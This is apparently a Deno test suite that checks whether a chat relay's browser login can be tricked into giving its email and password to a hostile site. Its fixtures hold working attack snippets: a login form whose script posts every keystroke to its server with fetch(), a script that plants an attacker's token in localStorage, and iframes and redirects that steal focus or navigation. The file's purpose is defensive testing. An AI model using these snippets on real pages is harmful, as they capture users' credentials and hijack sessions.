import assert from "node:assert/strict";
import { findProgram, needs } from "../../support/skip.ts";
import { startRelay } from "../../support/relay_process.ts";
import { makeJwt } from "../../unit/auth/tokens.ts";

const EMAIL = "bot@victim.example";
const PASSWORD = "s3cr3t!krone-Apfel";
const HTML = { "content-type": "text/html; charset=utf-8" };

/** A login form that sends every keystroke to whoever serves it. */
const GREEDY_FORM =
  `<form><input type="email" autofocus><input type="password"><button>Log in</button></form>
  <script>
    for (const field of document.querySelectorAll("input")) {
      field.addEventListener("input", () => fetch("/got", { method: "POST", body: field.value }));
    }
    addEventListener("message", () => document.querySelector("[type=password]").focus());
  </script>`;

/** The web app that the configuration names, and a hostile site beside it that writes down what it is told. */
class Sites implements AsyncDisposable {
  readonly got: string[] = [];
  readonly foreign: Deno.HttpServer<Deno.NetAddr>;
  readonly app: Deno.HttpServer<Deno.NetAddr>;

  /** `page`: the app's page, or where it sends the browser to. */
  constructor(page: (foreign: string) => string | { readonly to: string }) {
    const silent = { hostname: "127.0.0.1", port: 0, onListen: () => {} };
    this.foreign = Deno.serve(silent, async (request) => {
      if (request.method === "POST") this.got.push(await request.text());
      return new Response(`<!doctype html><body>${GREEDY_FORM}${PLANTED}</body>`, {
        headers: HTML,
      });
    });
    this.app = Deno.serve(silent, () => {
      const answer = page(`http://127.0.0.1:${this.foreign.addr.port}/`);
      return typeof answer === "string"
        ? new Response(`<!doctype html><body>${answer}</body>`, { headers: HTML })
        : Response.redirect(answer.to);
    });
  }

  async [Symbol.asyncDispose](): Promise<void> {
    await this.app.shutdown();
    await this.foreign.shutdown();
  }
}

/** A token of the attacker's, for who would take one from any page. */
const PLANTED = `<script>localStorage.setItem("token", "${
  makeJwt({ sub: "mallory", exp: 4_000_000_000 })
}");</script>`;

/** The app's own form, in a page that does something while it is typed into. */
const OWN_FORM =
  `<form><input type="email"><input type="password" id="own"><button>Log in</button></form>`;

const ATTACKS: Record<string, {
  readonly page: ConstructorParameters<typeof Sites>[0];
  readonly says: RegExp;
  /** Keys that may go astray before it is noticed. */
  readonly astray?: number;
}> = {
  "a form in a frame of another site": {
    page: (foreign) =>
      `<h1>Welcome</h1><iframe src="${foreign}" width="600" height="400"></iframe>`,
    says: /Nothing was typed into pages of http:\/\/127\.0\.0\.1:\d+: if the login is there, add/,
  },
  "a script that goes to another site": {
    page: (foreign) => `<script>setTimeout(() => location.href = "${foreign}", 300)</script>`,
    says: /AppURL\) led to http:\/\/127\.0\.0\.1:\d+/,
  },
  "a form in a frame without an origin": {
    page: (foreign) =>
      `<iframe sandbox="allow-scripts" width="600" height="400" srcdoc="${
        GREEDY_FORM.replaceAll("/got", `${foreign}got`).replaceAll('"', "&quot;")
      }"></iframe>`,
    says: /Cannot log in: no login button on the page/,
  },
  "a redirect to another site": {
    page: (foreign) => ({ to: foreign }),
    says: /AppURL\) led to http:\/\/127\.0\.0\.1:\d+, and email and password are typed at/,
  },
  "a page that goes to another site at the first key": {
    page: (foreign) =>
      `${OWN_FORM}<script>own.addEventListener("keydown", () => location.href = "${foreign}")</script>`,
    says: /Cannot log in: (?:http:\/\/127\.0\.0\.1:\d+ \(AppURL\) led to|at the step "typing)/,
    astray: 1,
  },
  "a frame of another site that takes the focus while the password is typed": {
    page: (foreign) =>
      `${OWN_FORM}<iframe id="thief" src="${foreign}" width="600" height="400"></iframe>
       <script>own.addEventListener("keydown", () => thief.contentWindow.postMessage("now", "*"))</script>`,
    says: /Cannot log in: the password field takes no typing/,
    astray: 2,
  },
};

/** Those that wait for the page's time to be over do so together. */
needs("chromium")("attack: forms of other sites get neither email nor password", async () => {
  await Promise.all([...Object.keys(ATTACKS).slice(0, 3)].map(attack));
});

for (const name of Object.keys(ATTACKS).slice(3)) {
  needs("chromium")(`attack: ${name} gets neither email nor password`, () => attack(name));
}

async function attack(name: string): Promise<void> {
  const { page, says, astray = 0 } = ATTACKS[name] ?? assert.fail(name);
  await using sites = new Sites(page);
  await using relay = await startRelay({ config: configOf(sites.app.addr.port) });
  await relay.waitForLog(/Cannot log in/, { timeoutMs: 60_000 });
  assert.match(relay.output, says, name);
  const longest = Math.max(0, ...sites.got.map((text) => text.length));
  assert.ok(longest <= astray, `${name}: the hostile site was told ${JSON.stringify(sites.got)}`);
  assert.equal(relay.output.includes(PASSWORD), false, name);
  assert.doesNotMatch(relay.output, /logged in as/i, name);
}

function configOf(port: number): string {
  return `
[kosmi.victim]
RoomURL="http://127.0.0.1:${port}/room/@movienight"
AppURL="http://127.0.0.1:${port}"
HTTPEndpoint="http://127.0.0.1:${port}/graphql"
WSEndpoint="ws://127.0.0.1:${port}/gql-ws"
Email="${EMAIL}"
Password="${PASSWORD}"
BrowserPath="${findProgram("chromium")}"
[irc.quiet]
Server="127.0.0.1:1"
Nick="relay"
[[gateway]]
name="films"
enable=true
[[gateway.inout]]
account="kosmi.victim"
channel="main"
[[gateway.inout]]
account="irc.quiet"
channel="#films"
`;
}
